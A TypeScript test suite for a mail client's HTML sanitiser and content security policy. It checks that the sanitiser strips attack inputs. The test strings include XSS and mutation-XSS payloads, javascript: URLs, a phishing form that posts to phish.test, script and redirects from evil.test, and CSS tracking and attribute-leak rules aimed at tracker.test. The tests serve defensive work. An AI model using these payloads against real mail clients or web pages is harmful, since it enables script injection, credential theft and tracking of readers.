import { describe, expect, it, vi } from "vitest";

vi.mock("server-only", () => ({}));
const { sanitizeMailHtml, cleanCss } = await import("@/lib/user-agent/html/sanitize");
const { htmlMailDocument, plainTextToHtml, contentSecurityPolicy } = await import("@/lib/user-agent/html/document");

const blocked = (html: string) => sanitizeMailHtml(html, { allowRemoteContent: false });
const allowed = (html: string) => sanitizeMailHtml(html, { allowRemoteContent: true });

describe("HTML mail sanitiser", () => {
  it("removes scripts in every spelling", () => {
    for (const dirty of [
      "<script>alert(1)</script>",
      "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
      "<scr<script>ipt>alert(1)</script>",
      '<svg><script href="data:,alert(1)"/></svg>',
      "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
      "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
      "<![CDATA[<script>alert(1)</script>]]>",
    ]) {
      const { html } = blocked(dirty);
      expect(html, dirty).not.toMatch(/<script|onerror|alert\(1\)<\/script/i);
    }
  });

  it("removes event handlers and javascript: / data: URLs", () => {
    const { html } = blocked(
      '<a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(1)">b</a><a href="data:text/html,<script>alert(1)</script>">c</a>' +
        '<div onclick="alert(1)" onmouseover="alert(1)">d</div><img src="x" onerror="alert(1)"><body onload="alert(1)">',
    );
    expect(html).not.toMatch(/javascript:|data:text|onclick|onmouseover|onerror|onload/i);
    expect(html).toContain(">a</a>");
  });

  it("drops SVG and MathML (namespace tricks) and forms", () => {
    const { html } = blocked(
      '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><animate attributeName="href" to="javascript:alert(1)"/></svg>' +
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">m</maction></math>' +
        '<form action="https://phish.test/steal"><input name="password"><button>Log in</button></form>',
    );
    expect(html).not.toMatch(/<svg|<math|javascript:|<form|<input|phish\.test/i);
  });

  it("removes <base>, <meta refresh>, <link> and frames", () => {
    const { html } = blocked(
      '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/"><link rel="stylesheet" href="https://evil.test/a.css"><iframe src="https://evil.test/"></iframe><object data="x"></object><embed src="x">',
    );
    expect(html).not.toMatch(/<base|<meta|<link|<iframe|<object|<embed|evil\.test/i);
  });

  it("blocks remote images, backgrounds and CSS url() until remote content is allowed", () => {
    const dirty =
      '<img src="https://tracker.test/pixel.gif" srcset="https://tracker.test/2x.gif 2x"><table background="https://tracker.test/bg.png"><tr><td>t</td></tr></table>' +
      '<div style="background:url(https://tracker.test/css.png)">x</div><div style="background-image: u\\72l(//tracker.test/esc.png)">y</div>' +
      "<style>@import url(https://tracker.test/i.css); .a { background: url('https://tracker.test/s.png') } input[value^=a] { background: url(https://tracker.test/leak?a) }</style>";
    const closed = blocked(dirty);
    expect(closed.html).not.toContain("tracker.test");
    expect(closed.blockedRemote).toBeGreaterThanOrEqual(5);

    const open = allowed(dirty);
    expect(open.html).toContain('src="https://tracker.test/pixel.gif"');
    expect(open.html).toContain("https://tracker.test/s.png");
    // Attributes that load by themselves stay out even then; the frame shows img src only.
    expect(open.html).not.toMatch(/srcset|background="/);
  });

  it("keeps inline images, ordinary formatting and safe links, which open in a new window", () => {
    const { html, blockedRemote } = blocked(
      '<p style="color:red">Hi <b>there</b></p><img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"><img src="cid:logo@x"><a href="https://example.org/">link</a><a href="mailto:a@example.org">mail</a>',
    );
    expect(blockedRemote).toBe(0);
    expect(html).toContain('style="color:red"');
    expect(html).toContain('src="data:image/png;base64,iVBORw0KGgo="');
    // The browser cannot load cid: itself; without a resolver the reference goes.
    expect(html).not.toContain("cid:");
    expect(html).toMatch(/<a href="https:\/\/example.org\/" target="_blank" rel="noopener noreferrer">link<\/a>/);
    expect(html).toContain('href="mailto:a@example.org"');
  });

  it("keeps the mail's own <style> from its head, cleaned", () => {
    const { html } = blocked("<html><head><style>.x { color: blue; background: url(http://t.test/a.png) }</style></head><body><p class=x>p</p></body></html>");
    expect(html).toMatch(/<style>[^<]*color: blue/);
    expect(html).not.toContain("t.test");
  });

  it("cid: images point where the resolver says, in img src only", () => {
    const resolveCid = (id: string) => (id === "logo@x" ? "data:image/png;base64,AAAA" : null);
    const { html } = sanitizeMailHtml('<img src="cid:logo%40x"><img src="cid:other@x"><img src="CID:logo@x">', { allowRemoteContent: false, resolveCid });
    expect(html.match(/src="data:image\/png;base64,AAAA"/g)).toHaveLength(2);
    expect(html).not.toContain("other@x");
  });

  it("image-set() and scheme-relative strings load nothing (H18: 'http:host/x' has no slashes)", () => {
    for (const css of ['background:-webkit-image-set("http:t.test/x" 1x)', "background:image-set('//t.test/x' 1x)", "background:\\5c 75rl(http://t.test/x)", "background:\\5c 5c 75rl(http://t.test/x)"]) {
      expect(cleanCss(css, false), css).not.toContain("t.test");
    }
    expect(cleanCss('background:image-set("https://t.test/x" 1x)', true)).toContain("t.test");
  });

  it("ids and names are prefixed against DOM clobbering, and anchors follow", () => {
    const { html } = blocked('<a href="#top">up</a><form name="location"></form><img name="__pwned"><h1 id="top">t</h1>');
    expect(html).toContain('id="user-content-top"');
    expect(html).toContain('href="#user-content-top"');
    expect(html).not.toMatch(/name="(?:__pwned|location)"/);
  });

  it("CSS: expression(), behaviours and escaped url( are defused", () => {
    expect(cleanCss("width: expression(alert(1))", false)).not.toMatch(/expression\(/i);
    expect(cleanCss("behavior: url(x.htc)", false)).not.toMatch(/behavior:/i);
    expect(cleanCss("background: \\75 rl(https://t.test/x)", false)).not.toContain("t.test");
  });
});

describe("the frame document", () => {
  it("has a CSP that allows no script and, until allowed, no remote host", () => {
    const { document } = htmlMailDocument("<p>x</p>", false);
    expect(document).toContain(`content="${contentSecurityPolicy(false)}"`);
    expect(contentSecurityPolicy(false)).toMatch(/default-src 'none'/);
    expect(contentSecurityPolicy(false)).not.toMatch(/script-src|https:/);
    expect(contentSecurityPolicy(true)).toMatch(/img-src data: cid: https: http:/);
  });

  it("plain text: escaped first, then links made clickable", () => {
    const html = plainTextToHtml('See https://example.org/a?b=1&c=2 or <script>alert("x")</script> javascript:alert(1) and mail bob@example.org');
    expect(html).toContain('<a href="https://example.org/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">https://example.org/a?b=1&amp;c=2</a>');
    expect(html).toContain("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;");
    expect(html).not.toContain('href="javascript');
    expect(html).toContain('href="mailto:bob@example.org"');
  });
});
